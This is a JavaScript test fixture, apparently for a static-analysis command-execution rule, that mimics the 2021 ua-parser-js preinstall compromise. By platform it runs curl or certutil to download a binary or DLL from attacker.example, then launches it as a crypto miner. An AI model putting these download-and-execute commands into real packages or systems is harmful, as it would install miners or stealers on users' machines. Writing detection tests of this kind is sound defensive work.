// Modelled on the 2021 ua-parser-js compromise: the preinstall script picks a miner/stealer binary by
// platform, downloads it and starts it. Hosts and payloads are defanged placeholders.
const os = require('os');
const { exec } = require('child_process');

const platform = os.platform();

if (platform === 'linux') {
  // ruleid: code/command-execution
  exec('curl -sSo /tmp/jsextension http://attacker.example/download/jsextension && chmod +x /tmp/jsextension && /tmp/jsextension -k --tls -o pool.attacker.example:443 -u defanged');
} else if (platform === 'win32') {
  // ruleid: code/command-execution
  exec('certutil.exe -urlcache -f http://attacker.example/download/sdd.dll sdd.dll && rundll32.exe sdd.dll,DllRegisterServer');
}
